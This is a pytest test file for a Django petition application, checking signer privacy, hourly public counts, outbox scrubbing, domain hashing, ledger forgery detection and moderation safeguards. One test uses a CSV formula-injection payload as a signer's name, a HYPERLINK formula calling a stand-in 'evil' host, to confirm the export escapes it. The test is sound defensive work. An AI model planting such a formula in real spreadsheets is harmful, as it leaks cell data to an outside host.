"""What a signer's safety asks beyond exact counting: nobody who types an address can have its
owner's name shown unseen; public figures move by the hour, not with each signer; the outbox of
the embedded default keeps no recipient and no time; a domain that could name its one user is
kept only as a keyed hash; what signers type never runs in the addressees' spreadsheet."""

import datetime
import json
import os

import pytest
import time_machine
from django.core import mail
from django.utils import timezone

from solidarity.core.mail import OutboxFileBackend
from solidarity.petitions import addresses, delivery, ledger, services
from solidarity.petitions.models import Petition, Signature

from .helpers import link_in, open_petition, path_of, pending, sign

pytestmark = pytest.mark.django_db


def test_someone_who_types_an_address_cannot_have_its_owners_name_shown_unseen(client):
    petition = open_petition()
    sign(client, petition, "victim@example.org", country="PL")  # the owner, counted without a name
    sign(client, petition, "victim@example.org", country="PL", name="Victim Realname", show_name="yes")
    latest = mail.outbox[-1]
    page = client.get(path_of(link_in(latest))).content.decode()
    assert "shown with the petition as “Victim Realname”" in page  # the owner sees it before pressing
    assert "Confirm, without showing my name" in page
    client.post(path_of(link_in(latest)), {"hide_name": "1"})
    assert list(Signature.objects.values_list("status", "show_name", "name")) == [("confirmed", False, "")]


def test_a_link_confirms_only_on_its_own_petitions_address(client):
    first, other = open_petition(), open_petition("another")
    (token,) = pending(first, 1)
    refused = client.post(f"/en/petitions/{other.slug}/confirm/{token}/").content.decode()
    assert "This link was used already, or it is not one of ours." in refused
    assert Signature.objects.get().status == "pending"


def test_public_figures_move_by_the_hour_not_with_each_signer(client):
    start = datetime.datetime(2026, 11, 10, 14, 5, tzinfo=datetime.UTC)
    with time_machine.travel(start, tick=False):
        petition = open_petition()
        for token in pending(petition, 5, country="DE"):
            services.confirm(petition, token)
        assert client.get("/api/v1/petitions").json()[0]["signatures"] == 5
    with time_machine.travel(start + datetime.timedelta(minutes=20), tick=False):
        (token,) = pending(petition, 1, country="DE")
        services.confirm(petition, token)
        assert Petition.objects.get().signature_count == 6
        assert client.get("/api/v1/petitions").json()[0]["signatures"] == 5  # the same hour
        assert "5 confirmed signatures" in client.get(f"/en/petitions/{petition.slug}/").content.decode()
    with time_machine.travel(start + datetime.timedelta(hours=1), tick=False):
        listed = client.get("/api/v1/petitions").json()[0]
        assert listed["signatures"] == 6 and listed["by_country"] == {"DE": 6}
        assert listed["figures_as_of"].startswith("2026-11-10T15:00")


def test_the_outbox_keeps_no_recipient_no_time_and_nothing_past_a_week(tmp_path, settings):
    settings.EMAIL_FILE_PATH = str(tmp_path)
    old = tmp_path / "20200101-0000-old.eml"
    old.write_text("an old message")
    week_ago = (timezone.now() - datetime.timedelta(days=8)).timestamp()
    os.utime(old, (week_ago, week_ago))
    message = mail.EmailMessage("Confirm", "the link", "petitions@localhost", ["anna@example.org"])
    OutboxFileBackend().send_messages([message])
    (written,) = tmp_path.iterdir()
    text = written.read_text()
    assert "the link" in text and "anna@example.org" not in text and "Date:" not in text
    assert written.name.endswith(".eml") and written.name[11:13] == "00"  # named by the hour
    assert datetime.datetime.fromtimestamp(written.stat().st_mtime).minute == 0
    assert oct(written.stat().st_mode & 0o777) == "0o600" and oct(tmp_path.stat().st_mode & 0o777) == "0o700"


@pytest.mark.parametrize(
    ("first", "second", "same"),
    [
        ("anna@bé.example", "anna@xn--b-bga.example", True),
        ("Anna@Example.ORG.", "anna@example.org", True),
        ("anna@example.org", "anna@example.com", False),
    ],
)
def test_one_mailbox_however_its_domain_is_written(first, second, same):
    assert (addresses.address_hash(1, first) == addresses.address_hash(1, second)) is same
    assert addresses.address_hash(1, first) != addresses.address_hash(2, first)  # petitions not linked


def test_a_quoted_address_is_refused_so_one_mailbox_has_one_spelling(client):
    petition = open_petition()
    page = sign(client, petition, '"anna"@example.org').content.decode()
    assert "Write the address as you would give it to someone" in page and not mail.outbox


def test_only_large_providers_are_named_a_small_domain_is_hashed():
    assert addresses.stored_domain("gmail.com") == "gmail.com"
    assert addresses.stored_domain("GoogleMail.com") != "googlemail.com"  # hashed, not named
    hashed = addresses.stored_domain("ivanov-family.by")
    assert hashed.startswith("#") and "ivanov" not in hashed
    assert addresses.stored_domain("@Ivanov-Family.BY") == hashed == addresses.stored_domain(hashed)


def test_what_a_signer_typed_never_runs_as_a_formula_in_the_delivery():
    petition = open_petition()
    (token,) = pending(petition, 1, country="DE", name='=HYPERLINK("http://evil/?"&A1,"x")')
    services.confirm(petition, token)
    text = delivery.as_csv(Petition.objects.get(), "en").decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_what_people_signed_cannot_be_edited_once_open(verified_client, editor):
    petition = open_petition()
    page = verified_client(editor).get(f"/admin/petitions/petition/{petition.pk}/change/").content.decode()
    assert 'name="slug"' not in page and 'name="text_en"' not in page and 'name="goal"' in page


def test_a_receipt_missing_from_its_day_or_a_chain_made_again_is_found(tmp_path):
    petition = open_petition()
    petition.opened_on = datetime.date(2026, 11, 1)
    petition.save()
    with time_machine.travel(datetime.datetime(2026, 11, 2, 12, tzinfo=datetime.UTC), tick=False):
        receipts = [services.confirm(petition, token)[1] for token in pending(petition, 2)]
    with time_machine.travel(datetime.datetime(2026, 11, 4, 12, tzinfo=datetime.UTC), tick=False):
        services.seal_ledger()
    published = services.published_ledger(petition)
    older = tmp_path / "older.json"
    older.write_text(json.dumps(published))
    # The server drops a receipt and makes the whole chain again: it verifies on its own...
    forged = json.loads(json.dumps(published))
    forged["entries"][1]["confirmed"].remove(ledger.receipt_digest(receipts[0]))
    previous, count = ledger.GENESIS, 0
    for entry in forged["entries"]:
        count += len(entry["confirmed"]) - len(entry["invalidated"])
        entry["count"], entry["previous"] = count, previous
        entry["digest"] = previous = ledger.entry_digest(forged["petition"], entry)
    assert ledger.problems(forged) == []
    # ...but the receipt names its day, and a copy kept from before shows the change.
    assert ledger.find(forged, receipts[0])["missing"] is True
    forged_path = tmp_path / "forged.json"
    forged_path.write_text(json.dumps(forged))
    assert ledger.main([str(forged_path), receipts[0]]) == 1
    assert ledger.main([str(forged_path), "--since", str(older)]) == 1
    assert ledger.main([str(older), receipts[0], "--since", str(older)]) == 0


def test_an_invalidation_previewed_before_a_confirmation_is_refused(editor):
    petition = open_petition()
    tokens = pending(petition, 3, email_domain="mail.example")
    criteria = services.Criteria(domain="mail.example")
    found = services.preview(petition, criteria)
    assert (found.matched, found.confirmed) == (3, 0)
    services.confirm(petition, tokens[0])  # the same rows, one now counted
    with pytest.raises(services.NotAllowed, match="changed since the preview"):
        services.invalidate(petition, criteria, fingerprint=found.fingerprint, reason="spam", by=editor)
    nothing = services.Criteria(domain="nobody.example")
    with pytest.raises(services.NotAllowed, match="No signature matches"):
        services.invalidate(
            petition,
            nothing,
            fingerprint=services.preview(petition, nothing).fingerprint,
            reason="x",
            by=editor,
        )


def test_a_moderation_time_out_of_range_gets_a_message(verified_client, editor):
    petition = open_petition()
    page = verified_client(editor).get(
        f"/admin/petitions/petition/{petition.pk}/moderate/", {"hour_from": "0001-01-01 00:00"}
    )
    assert page.status_code == 200 and "A time between 2000 and 2100." in page.content.decode()
